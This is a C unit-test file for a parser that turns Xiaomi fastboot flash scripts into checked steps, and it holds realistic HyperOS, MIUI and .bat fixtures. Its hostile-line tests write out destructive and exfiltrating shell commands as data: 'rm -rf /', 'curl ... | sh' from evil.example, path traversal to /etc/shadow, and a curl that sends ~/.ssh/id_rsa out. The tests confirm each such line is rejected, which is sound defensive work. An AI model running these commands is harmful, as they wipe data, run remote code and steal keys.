/* core/flash_script: scripts shaped like the ones in Xiaomi's fastboot ROMs
 * (HyperOS .sh, older MIUI .sh, .bat with CRLF) become the steps they mean;
 * hostile lines become UNKNOWN steps and never anything droidfix would run. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdlib.h>
#include <string.h>

#include "core/error.h"
#include "core/flash_script.h"

static struct df_flash_script *
parse(const char *text)
{
  struct df_flash_script *s = NULL;

  assert_int_equal(df_flash_script_parse(text, strlen(text), &s), 0);
  assert_non_null(s);
  return s;
}

static const struct df_flash_step *
nth(const struct df_flash_script *s, enum df_flash_step_type type, size_t n)
{
  for (size_t i = 0; i < s->step_count; i++)
    if (s->steps[i].type == type && n-- == 0) return &s->steps[i];
  return NULL;
}

static size_t
count(const struct df_flash_script *s, enum df_flash_step_type type)
{
  size_t n = 0;

  for (size_t i = 0; i < s->step_count; i++) n += s->steps[i].type == type;
  return n;
}

static void
assert_flash(const struct df_flash_step *step, const char *partition, const char *base,
             bool both, const char *file)
{
  assert_non_null(step);
  assert_int_equal(step->type, DF_FLASH_STEP_FLASH);
  assert_string_equal(step->partition, partition);
  assert_string_equal(step->base_partition, base);
  assert_int_equal(step->both_slots, both);
  assert_string_equal(step->file, file);
}

/* The shape of a HyperOS flash_all.sh (A/B, super, crc block). */
static const char hyperos_sh[] =
  "fastboot $* getvar product 2>&1 | grep -E  \"^product: *vermeer\"\n"
  "if [ $? -ne 0  ] ; then echo \"Missmatching image and device\"; exit 1; fi\n"
  "\n"
  "# MIUI ADD:BSPSecurity_MIUIBSPSecurityFrame\n"
  "#check anti_version\n"
  "if [ -e $(dirname $0)/images/anti_version.txt ]; then\n"
  "CURRENT_ANTI_VER=`cat $(dirname $0)/images/anti_version.txt`\n"
  "fi\n"
  "if [ -z \"$CURRENT_ANTI_VER\" ]; then CURRENT_ANTI_VER=0; fi\n"
  "ver=`fastboot $* getvar anti 2>&1 | grep -oP \"anti: \\K[0-9]+\"`\n"
  "if [ -z \"$ver\" ]; then ver=0; fi\n"
  "if [ $ver -gt $CURRENT_ANTI_VER ]; then echo \"Current device antirollback version is "
  "greater than this pakcage\"; exit 1; fi\n"
  "# END BSPSecurity_MIUIBSPSecurityFrame\n"
  "\n"
  "fastboot $* getvar crc 2>&1 | grep \"^crc: 1\"\n"
  "if [ $? -eq 0 ]; then\n"
  "fastboot $* flash crclist       `dirname $0`/images/crclist.txt\n"
  "if [ $? -ne 0 ] ; then echo \"Flash crclist error\"; exit 1; fi\n"
  "fastboot $* flash sparsecrclist `dirname $0`/images/sparsecrclist.txt\n"
  "if [ $? -ne 0 ] ; then echo \"Flash sparsecrclist error\"; exit 1; fi\n"
  "fi\n"
  "\n"
  "fastboot $* erase boot_ab\n"
  "if [ $? -ne 0 ] ; then echo \"Erase boot error\"; exit 1; fi\n"
  "fastboot $* flash abl_ab `dirname $0`/images/abl.elf\n"
  "if [ $? -ne 0 ] ; then echo \"Flash abl error\"; exit 1; fi\n"
  "fastboot $* flash xbl_config_ab `dirname $0`/images/xbl_config.elf\n"
  "if [ $? -ne 0 ] ; then echo \"Flash xbl_config error\"; exit 1; fi\n"
  "#fastboot $* flash modemfirmware_ab `dirname $0`/images/MODEM-FW.bin\n"
  "#if [ $? -ne 0 ] ; then echo \"Flash modem firmware error\"; exit 1; fi\n"
  "fastboot $* flash modem_ab `dirname $0`/images/NON-HLOS.bin\n"
  "if [ $? -ne 0 ] ; then echo \"Flash modem error\"; exit 1; fi\n"
  "fastboot $* flash super `dirname $0`/images/super.img\n"
  "if [ $? -ne 0 ] ; then echo \"Flash super error\"; exit 1; fi\n"
  "fastboot $* flash vm-bootsys_ab `dirname $0`/images/vm-bootsys.img\n"
  "if [ $? -ne 0 ] ; then echo \"Flash vm-bootsys error\"; exit 1; fi\n"
  "fastboot $* erase metadata\n"
  "if [ $? -ne 0 ] ; then echo \"Erase metadata error\"; exit 1; fi\n"
  "fastboot $* flash metadata `dirname $0`/images/metadata.img\n"
  "if [ $? -ne 0 ] ; then echo \"Flash metadata error\"; exit 1; fi\n"
  "fastboot $* flash userdata `dirname $0`/images/userdata.img\n"
  "if [ $? -ne 0 ] ; then echo \"Flash userdata error\"; exit 1; fi\n"
  "fastboot $* flash boot_ab `dirname $0`/images/boot.img\n"
  "if [ $? -ne 0 ] ; then echo \"Flash boot error\"; exit 1; fi\n"
  "fastboot $* set_active a\n"
  "if [ $? -ne 0 ] ; then echo \"set_active a error\"; exit 1; fi\n"
  "fastboot $* reboot\n"
  "if [ $? -ne 0 ] ; then echo \"Reboot error\"; exit 1; fi\n";

static void
hyperos_script(void **state)
{
  struct df_flash_script *s = parse(hyperos_sh);
  const struct df_flash_step *step;

  (void)state;
  assert_int_equal(s->dialect, DF_FLASH_SCRIPT_SH);
  assert_int_equal(s->unknown_count, 0);
  assert_int_equal(s->codename_count, 1);
  assert_string_equal(s->codenames[0], "vermeer");
  assert_true(s->anti_version_from_file);
  assert_int_equal(s->anti_version_literal, -1);

  /* In order: product check, anti check, crc check, 2 crc flashes, erase,
   * 5 flashes, erase, 3 flashes, set_active, reboot. */
  assert_int_equal(s->step_count, 17);
  assert_int_equal(s->steps[0].type, DF_FLASH_STEP_PRODUCT_CHECK);
  assert_int_equal(s->steps[0].line, 1);
  assert_true(s->steps[0].stops_on_error);
  assert_int_equal(s->steps[1].type, DF_FLASH_STEP_ANTI_CHECK);
  assert_int_equal(s->steps[2].type, DF_FLASH_STEP_CRC_CHECK);
  assert_flash(&s->steps[3], "crclist", "crclist", false, "images/crclist.txt");
  assert_true(s->steps[3].conditional);
  assert_true(s->steps[4].conditional);
  assert_int_equal(s->steps[5].type, DF_FLASH_STEP_ERASE);
  assert_string_equal(s->steps[5].partition, "boot_ab");
  assert_string_equal(s->steps[5].base_partition, "boot");
  assert_true(s->steps[5].both_slots);
  assert_false(s->steps[5].conditional);
  assert_flash(&s->steps[6], "abl_ab", "abl", true, "images/abl.elf");
  assert_true(s->steps[6].stops_on_error);
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 5), "super", "super", false, "images/super.img");
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 6), "vm-bootsys_ab", "vm-bootsys", true,
               "images/vm-bootsys.img");
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 9), "boot_ab", "boot", true, "images/boot.img");
  step = nth(s, DF_FLASH_STEP_SET_ACTIVE, 0);
  assert_non_null(step);
  assert_string_equal(step->argument, "a");
  step = nth(s, DF_FLASH_STEP_REBOOT, 0);
  assert_non_null(step);
  assert_string_equal(step->argument, "");
  assert_int_equal(step->line, 47);
  assert_int_equal(s->flash_count, 10);
  assert_int_equal(s->erase_count, 2);
  assert_true(s->touches_userdata);
  assert_false(s->locks_bootloader);
  df_flash_script_free(s);
}

/* Older MIUI: no A/B, a literal anti version, `pwd`, multi-line error
 * blocks, grep -E with two codenames, $(dirname $0). */
static void
miui_script(void **state)
{
  struct df_flash_script *s = parse(
    "#!/bin/sh\n"
    "fastboot $* getvar product 2>&1 | grep -E \"^product: *MSM8953$|^product: *mido$\"\n"
    "if [ $? -ne 0 ]; then\n"
    "    echo \"Missmatching image and device\"\n"
    "    exit 1\n"
    "fi\n"
    "CURRENT_ANTI_VER=1\n"
    "ver=`fastboot $* getvar anti 2>&1 | grep -oP \"anti: \\K[0-9]+\"`\n"
    "if [ -z \"$ver\" ]; then ver=0; fi\n"
    "if [ $ver -gt $CURRENT_ANTI_VER ]; then echo \"current device antirollback version is "
    "greater then this pakcage\"; exit 1; fi\n"
    "fastboot $* erase xbl\n"
    "fastboot $* flash xbl `pwd`/images/xbl.elf\n"
    "if [ $? -ne 0 ] ; then echo \"Flash xbl error\"; exit 1; fi\n"
    "fastboot $* flash modem $(dirname $0)/images/NON-HLOS.bin\n"
    "if [ $? -ne 0 ]; then\n"
    "    echo \"Flash modem error\"\n"
    "    exit 1\n"
    "fi\n"
    "fastboot $* erase userdata\n"
    "fastboot $* reboot\n");

  (void)state;
  assert_int_equal(s->unknown_count, 0);
  assert_int_equal(s->codename_count, 2);
  assert_string_equal(s->codenames[0], "MSM8953");
  assert_string_equal(s->codenames[1], "mido");
  assert_int_equal(s->steps[0].codename_count, 2);
  assert_true(s->steps[0].stops_on_error);
  assert_false(s->anti_version_from_file);
  assert_int_equal(s->anti_version_literal, 1);
  assert_int_equal(count(s, DF_FLASH_STEP_ANTI_CHECK), 1);
  /* An erase with no error check after it does not stop the script. */
  assert_int_equal(nth(s, DF_FLASH_STEP_ERASE, 0)->type, DF_FLASH_STEP_ERASE);
  assert_false(nth(s, DF_FLASH_STEP_ERASE, 0)->stops_on_error);
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 0), "xbl", "xbl", false, "images/xbl.elf");
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 1), "modem", "modem", false, "images/NON-HLOS.bin");
  assert_true(nth(s, DF_FLASH_STEP_FLASH, 1)->stops_on_error);
  assert_true(s->touches_userdata);
  assert_int_equal(count(s, DF_FLASH_STEP_REBOOT), 1);
  df_flash_script_free(s);
}

/* flash_all_lock.bat, CRLF, as shipped for Windows. */
static const char lock_bat[] =
  "fastboot %* getvar product 2>&1 | findstr /r /c:\"^product: *vermeer\" || echo "
  "Missmatching image and device\r\n"
  "fastboot %* getvar product 2>&1 | findstr /r /c:\"^product: *vermeer\" || exit /B 1\r\n"
  "\r\n"
  "::check anti_version\r\n"
  "if exist \"%~dp0images\\anti_version.txt\" (for /f \"usebackq\" %%a in "
  "(\"%~dp0images\\anti_version.txt\") do (set CURRENT_ANTI_VER=%%a))\r\n"
  "if [%CURRENT_ANTI_VER%] EQU [] set CURRENT_ANTI_VER=0\r\n"
  "for /f \"tokens=2 delims=: \" %%i in ('fastboot %* getvar anti 2^>^&1 ^| findstr /r "
  "/c:\"anti:\"') do (set version=%%i)\r\n"
  "if [%version%] EQU [] set version=0\r\n"
  "set anticheck=\"antirollback check pass\"\r\n"
  "if %version% GTR %CURRENT_ANTI_VER% set anticheck=\"Current device antirollback version "
  "is greater than this pakcage\"\r\n"
  "echo %anticheck% | findstr /r /c:\"pass\" || @echo \"Antirollback check error\" && exit /B "
  "1\r\n"
  "\r\n"
  "fastboot %* getvar crc 2>&1 | findstr /r /c:\"^crc: 1\"\r\n"
  "if %errorlevel% equ 0 (\r\n"
  "fastboot %* flash crclist %~dp0images\\crclist.txt || @echo \"Flash crclist error\" && "
  "exit /B 1\r\n"
  ")\r\n"
  "\r\n"
  "fastboot %* erase boot_ab || @echo \"Erase boot error\" && exit /B 1\r\n"
  "fastboot %* flash xbl_config_ab %~dp0images/xbl_config.elf || @echo \"Flash xbl_config "
  "error\" && exit 1\r\n"
  "::fastboot %* flash modemfirmware_ab %~dp0images/MODEM-FW.bin || @echo \"Flash modem "
  "firmware error\" && exit 1\r\n"
  "fastboot %* flash misc %~dp0images\\misc.img || @echo \"Flash misc error\" && exit /B 1\r\n"
  "fastboot %* flash boot_ab %~dp0images/boot.img || @echo \"Flash boot error\" && exit 1\r\n"
  "fastboot %* set_active a || @echo \"Set active a error\" && exit 1\r\n"
  "fastboot %* oem lock || @echo \"Reboot error\" && exit 1\r\n";

static void
bat_script(void **state)
{
  struct df_flash_script *s = parse(lock_bat);

  (void)state;
  assert_int_equal(s->dialect, DF_FLASH_SCRIPT_BAT);
  assert_int_equal(s->unknown_count, 0);
  /* The check printed and then enforced is one step. */
  assert_int_equal(count(s, DF_FLASH_STEP_PRODUCT_CHECK), 1);
  assert_true(s->steps[0].stops_on_error);
  assert_string_equal(s->codenames[0], "vermeer");
  assert_true(s->anti_version_from_file);
  assert_int_equal(count(s, DF_FLASH_STEP_ANTI_CHECK), 1);
  assert_int_equal(count(s, DF_FLASH_STEP_CRC_CHECK), 1);
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 0), "crclist", "crclist", false,
               "images/crclist.txt");
  assert_true(nth(s, DF_FLASH_STEP_FLASH, 0)->conditional);
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 1), "xbl_config_ab", "xbl_config", true,
               "images/xbl_config.elf");
  assert_false(nth(s, DF_FLASH_STEP_FLASH, 1)->conditional);
  assert_true(nth(s, DF_FLASH_STEP_FLASH, 1)->stops_on_error);
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 2), "misc", "misc", false, "images/misc.img");
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 3), "boot_ab", "boot", true, "images/boot.img");
  assert_int_equal(count(s, DF_FLASH_STEP_LOCK), 1);
  assert_true(s->locks_bootloader);
  assert_false(s->touches_userdata);
  assert_int_equal(count(s, DF_FLASH_STEP_REBOOT), 0);
  df_flash_script_free(s);
}

/* Each line must come out as exactly one UNKNOWN step and nothing else. */
static const char *const hostile_lines[] = {
  "fastboot $* flash boot $(rm -rf /)",
  "fastboot $* flash boot $(dirname $0)/images/boot.img$(rm -rf /)",
  "fastboot $* flash boot images/boot.img; curl http://evil.example/x | sh",
  "fastboot $* flash boot `curl -s http://evil.example/x`",
  "fastboot $* flash boot `dirname $0`/images/`id`.img",
  "fastboot $* erase boot && rm -rf ~",
  "fastboot $* flash boot images/boot.img || curl http://evil.example",
  "fastboot $* flash boot images/boot.img || echo $(rm -rf /)",
  "fastboot $* flash boot images/boot.img || @echo \"x\" && rm -rf /",
  "fastboot $* flash boot ../../etc/shadow",
  "fastboot $* flash boot $(dirname $0)/../../../etc/shadow",
  "fastboot $* flash boot /dev/sda",
  "fastboot $* flash boot images/boot.img > /dev/sda",
  "fastboot $* flash boot images/boot.img>/dev/sda",
  "fastboot $* flash boot images/boot.img &",
  "fastboot $* flash boot \"images/boot.img",
  "fastboot $* erase $PART",
  "fastboot $* erase boot_ab`reboot`",
  "fastboot $* oem unlock",
  "fastboot $* flashing unlock",
  "fastboot $* oem edl",
  "fastboot $* -w",
  "fastboot $* boot images/twrp.img",
  "fastboot $* getvar product 2>&1 | grep \"^product: *vermeer\" | sh",
  "fastboot $* getvar product 2>&1 | grep \"^product: *`reboot`\"",
  "fastboot $* getvar product 2>&1 | grep \"^product: *a|^product: *b\"",
  "fastboot $* getvar product 2>&1 | sh",
  "if [ $? -ne 0 ] ; then echo \"x\"; rm -rf /; fi",
  "if [ $? -ne 0 ] ; then echo \"$(rm -rf /)\"; exit 1; fi",
  "if [ $ver -gt $CURRENT_ANTI_VER ]; then curl x; fi",
  "CURRENT_ANTI_VER=`curl http://evil.example`",
  "$(rm -rf /)",
  "`rm -rf /`",
  "rm -rf /",
  "curl http://evil.example | sh",
  "echo pwned > /etc/passwd",
  "fi",
  ")",
};

static void
hostile_lines_are_refused(void **state)
{
  (void)state;
  for (size_t i = 0; i < sizeof(hostile_lines) / sizeof(*hostile_lines); i++) {
    struct df_flash_script *s = parse(hostile_lines[i]);
    print_message("line: %s -> %s\n", hostile_lines[i],
                  s->step_count ? df_flash_step_type_name(s->steps[0].type) : "(none)");
    assert_int_equal(s->step_count, 1);
    assert_int_equal(s->steps[0].type, DF_FLASH_STEP_UNKNOWN);
    assert_int_equal(s->unknown_count, 1);
    assert_non_null(s->steps[0].reason);
    assert_string_equal(s->steps[0].text, hostile_lines[i]);
    assert_int_equal(s->flash_count + s->erase_count, 0);
    df_flash_script_free(s);
  }
}

/* A hostile line among good ones: the good ones still parse, the bad one is
 * kept with its line number, and nothing bleeds across lines. */
static void
hostile_line_in_a_script(void **state)
{
  struct df_flash_script *s = parse(
    "fastboot $* getvar product 2>&1 | grep \"^product: *vermeer\"\n"
    "if [ $? -ne 0 ] ; then echo \"Missmatching image and device\"; exit 1; fi\n"
    "fastboot $* flash boot_ab `dirname $0`/images/boot.img\n"
    "if [ $? -ne 0 ]; then\n"
    "  echo \"Flash boot error\"\n"
    "  curl http://evil.example/$(cat ~/.ssh/id_rsa)\n"
    "  exit 1\n"
    "fi\n"
    "fastboot $* flash dtbo_ab `dirname $0`/images/dtbo.img ; reboot\n"
    "fastboot $* reboot\n");
  const struct df_flash_step *u0, *u1;

  (void)state;
  assert_int_equal(s->unknown_count, 2);
  u0 = nth(s, DF_FLASH_STEP_UNKNOWN, 0);
  u1 = nth(s, DF_FLASH_STEP_UNKNOWN, 1);
  assert_int_equal(u0->line, 6);
  assert_string_equal(u0->text, "curl http://evil.example/$(cat ~/.ssh/id_rsa)");
  assert_string_equal(u0->reason, "a command inside an error block");
  assert_int_equal(u1->line, 9);
  assert_int_equal(s->flash_count, 1);
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 0), "boot_ab", "boot", true, "images/boot.img");
  assert_int_equal(count(s, DF_FLASH_STEP_REBOOT), 1);
  df_flash_script_free(s);
}

static void
quoting_and_variants(void **state)
{
  struct df_flash_script *s = parse(
    "\xEF\xBB\xBF# a BOM, then quoting\n"
    "fastboot $* flash \"boot_ab\" \"$(dirname $0)/images/boot.img\"\n"
    "fastboot $@ flash 'dtbo' './images/dtbo.img'\n"
    "  fastboot   flash\tvbmeta_ab   images/vbmeta.img   \n"
    "fastboot $* reboot bootloader\n"
    "fastboot reboot-bootloader\n"
    "fastboot $* set_active b || exit 1\n"
    "fastboot $* flashing lock\n");

  (void)state;
  assert_int_equal(s->unknown_count, 0);
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 0), "boot_ab", "boot", true, "images/boot.img");
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 1), "dtbo", "dtbo", false, "images/dtbo.img");
  assert_flash(nth(s, DF_FLASH_STEP_FLASH, 2), "vbmeta_ab", "vbmeta", true, "images/vbmeta.img");
  assert_string_equal(nth(s, DF_FLASH_STEP_REBOOT, 0)->argument, "bootloader");
  assert_string_equal(nth(s, DF_FLASH_STEP_REBOOT, 1)->argument, "bootloader");
  assert_string_equal(nth(s, DF_FLASH_STEP_SET_ACTIVE, 0)->argument, "b");
  assert_true(nth(s, DF_FLASH_STEP_SET_ACTIVE, 0)->stops_on_error);
  assert_true(s->locks_bootloader);
  /* No product check: the script would flash any phone. */
  assert_int_equal(s->codename_count, 0);
  df_flash_script_free(s);
}

static void
blocks_must_balance(void **state)
{
  struct df_flash_script *s;

  (void)state;
  /* A success block with no crc check before it is not one we know. */
  s = parse("if [ $? -eq 0 ]; then\nfastboot $* reboot\nfi\n");
  assert_int_equal(nth(s, DF_FLASH_STEP_UNKNOWN, 0)->line, 1);
  assert_int_equal(nth(s, DF_FLASH_STEP_UNKNOWN, 1)->line, 3); /* the stray fi */
  df_flash_script_free(s);

  /* A block never closed is reported at the end. */
  s = parse("fastboot $* erase boot\nif [ $? -ne 0 ]; then\necho \"x\"\n");
  assert_int_equal(s->unknown_count, 1);
  assert_string_equal(nth(s, DF_FLASH_STEP_UNKNOWN, 0)->reason, "a block that is never closed");
  df_flash_script_free(s);
}

static void
odd_input(void **state)
{
  struct df_flash_script *s;
  static const char with_nul[] = "fastboot $* erase boot\nfastboot $* flash boot x\0y\n";
  char *big;

  (void)state;
  s = parse("");
  assert_int_equal(s->step_count, 0);
  df_flash_script_free(s);
  s = parse("# only comments\n:: and bat ones\nrem and these\n@echo off\n\n\r\n");
  assert_int_equal(s->step_count, 0);
  df_flash_script_free(s);

  assert_int_equal(df_flash_script_parse(with_nul, sizeof(with_nul) - 1, &s), 0);
  assert_int_equal(s->step_count, 2);
  assert_int_equal(s->steps[1].type, DF_FLASH_STEP_UNKNOWN);
  assert_string_equal(s->steps[1].reason, "a NUL byte in the line");
  assert_string_equal(s->steps[1].text, "fastboot $* flash boot x?y");
  df_flash_script_free(s);

  big = malloc(4u * 1024 * 1024 + 1);
  assert_non_null(big);
  memset(big, '\n', 4u * 1024 * 1024 + 1);
  assert_int_equal(df_flash_script_parse(big, 4u * 1024 * 1024 + 1, &s), DF_ETOOBIG);
  assert_null(s);
  /* One line longer than any script needs. */
  memset(big, 'a', 10000);
  memcpy(big, "fastboot ", 9);
  assert_int_equal(df_flash_script_parse(big, 10000, &s), 0);
  assert_int_equal(s->unknown_count, 1);
  assert_string_equal(s->steps[0].reason, "a line too long");
  df_flash_script_free(s);
  free(big);

  assert_int_equal(df_flash_script_parse(NULL, 0, &s), DF_EINVAL);
  df_flash_script_free(NULL);
}

static void
step_type_names(void **state)
{
  (void)state;
  assert_string_equal(df_flash_step_type_name(DF_FLASH_STEP_PRODUCT_CHECK), "product-check");
  assert_string_equal(df_flash_step_type_name(DF_FLASH_STEP_FLASH), "flash");
  assert_string_equal(df_flash_step_type_name(DF_FLASH_STEP_UNKNOWN), "unknown");
}

int
main(void)
{
  const struct CMUnitTest tests[] = {
    cmocka_unit_test(hyperos_script),
    cmocka_unit_test(miui_script),
    cmocka_unit_test(bat_script),
    cmocka_unit_test(hostile_lines_are_refused),
    cmocka_unit_test(hostile_line_in_a_script),
    cmocka_unit_test(quoting_and_variants),
    cmocka_unit_test(blocks_must_balance),
    cmocka_unit_test(odd_input),
    cmocka_unit_test(step_type_names),
  };

  return cmocka_run_group_tests(tests, NULL, NULL);
}
